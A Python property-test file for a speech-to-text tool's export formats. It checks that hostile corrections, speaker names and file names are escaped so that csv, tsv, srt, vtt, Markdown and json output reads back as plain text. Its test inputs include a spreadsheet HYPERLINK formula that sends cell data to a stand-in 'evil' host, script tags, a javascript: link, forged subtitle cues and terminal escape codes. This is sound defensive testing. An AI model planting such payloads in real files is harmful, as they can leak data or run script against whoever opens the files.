"""Every export format under hostile text (issue 31, items 2 and 3): for any corrections, names and file
names, each export read back by a real parser of its format (csv, `srt`, `webvtt-py`, markdown-it-py,
json) gives the same text, changed only as outputs/escape documents it, with no markup, no formula and no
cue, line or paragraph coming from the text."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import time
from collections.abc import Iterator

import pytest
import srt
import webvtt
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from stt_tui.history.edits import Correction, Edits
from stt_tui.jobs.model import RequestOptions, clock
from stt_tui.outputs.beside import beside_path
from stt_tui.outputs.escape import FORMULA_STARTS, WORD_JOINER
from stt_tui.outputs.export import FORMATS, Utterance, cues, render, utterances, with_edits
from stt_tui.outputs.files import write_output
from stt_tui.service.facade import Service
from stt_tui.settings.config import load_profile
from stt_tui.shared.paths import resolve_paths
from tests.support.homes import stt
from tests.support.transcripts import operation_json

DOCUMENT = operation_json()  # four phrases, on channels 1 and 2
PHRASES = utterances(DOCUMENT)
EXAMPLES = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])

HOSTILE = [
    '=HYPERLINK("http://evil/?x="&A1,"click")', "@SUM(A1)", "+1", "-Eve", "\t=1", "\r=1", "-1.5",
    "Bob><c.x>Fake speaker</c> &amp;", "AT&T says a < b & c > d", "a --> b", "-->", "&lt;b&gt;",
    "<script>alert(1)</script>", "[x](javascript:alert(1))", "![i](http://e/x.png)", "<http://evil>",
    "*bold* _it_ `code` ~~gone~~", "# title", "1. item", "> quote", "| a | b |", "\\", "&copy;",
    "<i>italic</i>", "{\\an8}top", "<font color=red>", "\u202eevil\u202c", "\u200f\u200e", "\u2060",
    "2\n00:00:01,000 --> 00:00:02,000\nforged", "WEBVTT", "NOTE x", "a\n\nb", "a\r\nb", "\u2028\u2029",
    "\x00\x07\x1b[31mred\x1b[0m\x9b2J", "\x7f", "line\x0bbreak\x0c", "\x85", "\udcff\udc80 not utf-8",
]  # fmt: skip
fragments = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=20))
texts = st.one_of(
    st.lists(fragments, min_size=1, max_size=6).map("".join),
    st.tuples(fragments, st.integers(20, 300)).map(lambda t: " ".join([t[0]] * t[1])),  # very long
)


def shown(text: str) -> str:
    """`text` as the text formats document it: a line break a space, a control character or a lone
    surrogate U+FFFD (a tab stays)."""
    text = re.sub("[\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]+", " ", text)
    return re.sub("[\x00-\x08\x0a-\x1f\x7f-\x9f\ud800-\udfff]", "\ufffd", text)


def in_cell(text: str) -> str:
    """`text` as a csv/tsv cell documents it: controls but tab, LF and CR as U+FFFD, a formula's
    first character after a `'`."""
    text = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff]", "\ufffd", text)
    text = re.sub("\r\n?", "\n", text)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def no_controls(out: str) -> None:
    assert not re.search("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff]", out)
    out.encode("utf-8")  # a file or a terminal can take it


def expected(edits: Edits) -> list[Utterance]:
    return with_edits(PHRASES, edits)


def check_txt(out: str, items: list[Utterance], labelled: bool) -> None:
    assert out.endswith("\n") and out.count("\n") == len(items)  # a line per phrase, none more
    for line, u in zip(out.split("\n"), items, strict=False):
        assert line == shown(f"{u.who}: {u.text}" if labelled or u.name else u.text)  # a given name is said


def check_srt(out: str, items: list[Utterance], labelled: bool) -> None:
    parsed = list(srt.parse(out))
    made = cues(items, labelled=labelled)  # a label takes room on a cue's first line
    assert len(parsed) == len(made)  # no cue from the text
    for sub, c in zip(parsed, made, strict=True):
        assert abs(sub.start.total_seconds() - c.start) < 0.002
        assert not re.search(r"-->|<[A-Za-z/!]|\{\\", sub.content)  # no arrow, no tag
        assert len(sub.content.split("\n")) <= 2  # lines of a cue (issue 33): at most two, broken at a space
        content = JOINED.sub(_joined, sub.content).replace("\n", " ")
        assert content == shown(f"{c.who}: {c.text}" if labelled or c.name else c.text)


JOINED = re.compile(f"(--){WORD_JOINER}(>)|(<){WORD_JOINER}|(\\{{){WORD_JOINER}(\\\\)")


def _joined(m: re.Match[str]) -> str:
    return "".join(g for g in m.groups() if g)


def check_vtt(out: str, items: list[Utterance], labelled: bool) -> None:
    parsed = list(webvtt.from_buffer(io.StringIO(out)))  # type: ignore[call-overload]
    made = cues(items)
    assert len(parsed) == len(made)
    for cue, c in zip(parsed, made, strict=True):
        assert abs(cue.start_in_seconds - int(c.start)) <= 1
        tags = webvtt.models.Caption.CUE_TEXT_TAGS.findall(cue.raw_text)
        voiced = labelled or bool(c.name)  # a name given even to the one channel of mono audio is said
        assert tags == ([f"<v {cue.voice}>"] if voiced else [])  # the voice's tag, no other markup
        assert "-->" not in cue.raw_text
        assert len(cue.text.split("\n")) <= 2
        assert html.unescape(cue.text).replace("\n", " ") == shown(c.text)
        if voiced:
            name = re.sub("[ \t]+", " ", shown(c.who)).strip() or f"Channel {c.channel}"
            assert html.unescape(cue.voice) == name


def check_table(out: str, items: list[Utterance], sep: str) -> None:
    rows = list(csv.reader(io.StringIO(out), delimiter=sep))
    assert len(rows) == 1 + len(items)
    for row, u in zip(rows[1:], items, strict=True):
        assert [float(row[0]), float(row[1])] == [round(u.start, 3), round(u.end, 3)]  # numbers stay
        assert row[2:] == [in_cell(u.who), in_cell(u.text)]
        assert not row[2].startswith(FORMULA_STARTS) and not row[3].startswith(FORMULA_STARTS)


MARKDOWN = MarkdownIt("commonmark")


def check_md(out: str, items: list[Utterance], labelled: bool) -> None:
    tokens = MARKDOWN.parse(out)
    assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"] * len(items)
    for inline, u in zip(tokens[1::3], items, strict=True):
        assert inline.children is not None
        assert {t.type for t in inline.children} <= {"text"}  # no link, emphasis, code, html
        who = f"{u.who}: " if labelled or u.name else ""
        line = f"[{clock(u.start)}] {shown(who + u.text)}".rstrip()  # a paragraph ends at its last letter
        assert "".join(t.content for t in inline.children) == line
    assert set(re.findall(r"<[^>]*>", MARKDOWN.render(out))) <= {"<p>", "</p>"}


def check_json(out: str, edits: Edits) -> None:
    data = json.loads(out)
    assert [c["text"] for c in data.get("corrections", [])] == [c.text for c in edits.corrections.values()]
    assert data.get("names", {}) == {str(k): v for k, v in sorted(edits.names.items())}


def check(out: str, fmt: str, edits: Edits, channel: int | None) -> None:
    no_controls(out)
    items = [u for u in expected(edits) if channel is None or u.channel == channel]
    labelled = channel is None
    if fmt == "json":
        check_json(out, edits)
    elif fmt in ("csv", "tsv"):
        check_table(out, items, "," if fmt == "csv" else "\t")
    else:
        {"txt": check_txt, "srt": check_srt, "vtt": check_vtt, "md": check_md}[fmt](out, items, labelled)


edits_strategy = st.builds(
    lambda corrected, names: Edits(
        {n: Correction(n, PHRASES[n].channel, text, 0.0) for n, text in corrected.items()}, names
    ),
    st.dictionaries(st.integers(0, len(PHRASES) - 1), texts.filter(lambda t: t.split() != [])),
    st.dictionaries(st.sampled_from([1, 2]), texts),
)


@EXAMPLES
@given(edits=edits_strategy, channel=st.sampled_from([None, 1]))
def test_every_format_reads_back_as_the_text_and_nothing_more(edits, channel):
    """The render layer, with what no service would store (lone surrogates, line breaks), too."""
    for fmt in FORMATS:
        check(render(DOCUMENT, fmt, channel, edits=edits), fmt, edits, channel)


@pytest.fixture(scope="module")
def service(tmp_path_factory) -> Iterator[Service]:
    paths = resolve_paths(tmp_path_factory.mktemp("props") / "home")
    svc = Service.open(paths, load_profile(None), warn=lambda _: None, tell=lambda _: None)
    yield svc
    svc.close()


stored = texts.map(lambda t: t.encode("utf-8", "replace").decode("utf-8"))  # SQLite holds UTF-8 only


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(corrections=st.lists(stored, min_size=4, max_size=4), names=st.lists(stored, min_size=2, max_size=2))
def test_what_the_service_stores_reads_back_from_every_format(service, corrections, names):
    """Corrections and names set as a person or a script sets them, through the service."""
    history = service.history
    job = history.add_submitting(profile="local", file_path="/a/talk.wav", options=RequestOptions())
    history.mark_submitted(job.id, f"op{job.id}", time.time(), time.time())
    job = history.store_result(job.id, DOCUMENT)
    for n, text in enumerate(corrections):
        service.correct(job, n, text)
    for tag, name in enumerate(names, start=1):
        service.rename(job, tag, name)
    edits = history.edits(job.id)
    for fmt in FORMATS:
        check(service.export(job, fmt), fmt, edits, None)


names = st.lists(
    st.one_of(st.sampled_from(HOSTILE), st.text(min_size=1, max_size=12), st.binary(min_size=1, max_size=12)),
    min_size=1,
    max_size=4,
).map(lambda parts: "".join(os.fsdecode(p) if isinstance(p, bytes) else p for p in parts))


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=names)
def test_a_transcript_is_written_at_its_audios_name_whatever_the_name(tmp_path, name):
    """File names are bytes: a transcript goes beside any audio, under the audio's own name."""
    name = name.replace("/", "∕").replace("\x00", "0")
    assume(name not in (".", "..") and len(os.fsencode(name)) <= 200)
    folder = tmp_path / str(time.monotonic_ns())
    folder.mkdir()
    audio = folder / f"{name}.wav"
    target = beside_path(audio, "vtt")
    text = render(DOCUMENT, "vtt", edits=Edits({}, {1: name}))
    write_output(target, text)
    assert os.listdir(os.fsencode(folder)) == [os.fsencode(target.name)]  # the one file, no part left
    assert target.read_text("utf-8") == text


def test_the_issues_hostile_text_exports_as_text_from_the_command_line(tmp_path):
    """Issue 31, items 2 and 3 as a user meets them: `stt-tui export` of a transcript corrected and named
    by anyone who reaches the service."""
    home = tmp_path / "home"
    svc = Service.open(resolve_paths(home), load_profile(None), warn=lambda _: None, tell=lambda _: None)
    try:
        job = svc.history.add_submitting(profile="local", file_path="/a/talk.wav", options=RequestOptions())
        svc.history.mark_submitted(job.id, "op1", time.time(), time.time())
        job = svc.history.store_result(job.id, DOCUMENT)
        svc.correct(job, 0, '=HYPERLINK("http://evil/?x="&A1,"click")')
        svc.correct(job, 1, "AT&T says a < b & c > d --> <script>x</script> [x](javascript:alert(1))")
        svc.rename(job, 1, "@SUM(A1)")
        svc.rename(job, 2, "Bob><c.x>Fake speaker</c> &amp;")
    finally:
        svc.close()

    def table(fmt: str) -> list[list[str]]:
        out = stt(home, "export", str(job.id), "--format", fmt).stdout
        return list(csv.reader(io.StringIO(out), delimiter="," if fmt == "csv" else "\t"))

    rows = table("csv")
    assert rows[1][2:] == ["'@SUM(A1)", "'=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")"]
    assert table("tsv") == rows

    assert stt(home, "export", str(job.id), "-o", str(tmp_path / "talk.vtt")).returncode == 0
    vtt = (tmp_path / "talk.vtt").read_text()
    bob = "<v Bob&gt;&lt;c.x&gt;Fake speaker&lt;/c&gt; &amp;amp;>"
    # The phrase is too long for one cue of two lines (issue 33): its cues, each in Bob's voice, say it.
    said = [c.raw_text for c in webvtt.from_buffer(io.StringIO(vtt)) if c.raw_text.startswith(bob)]
    assert (
        "AT&amp;T says a &lt; b &amp; c &gt; d --&gt; &lt;script&gt;x&lt;/script&gt;"
        in " ".join(text.removeprefix(bob).replace("\n", " ") for text in said)
    )
    (cue,) = [c for c in webvtt.from_buffer(io.StringIO(vtt)) if "AT&amp;T" in c.raw_text]
    assert html.unescape(cue.voice) == "Bob><c.x>Fake speaker</c> &amp;"

    srt_text = stt(home, "export", str(job.id), "--format", "srt").stdout
    assert "-->" not in "".join(s.content for s in srt.parse(srt_text))
    md = stt(home, "export", str(job.id), "--format", "md").stdout
    assert set(re.findall(r"<[^>]*>", MARKDOWN.render(md))) == {"<p>", "</p>"}
    assert "&lt;script&gt;x&lt;/script&gt; [x](javascript:alert(1))" in MARKDOWN.render(md)
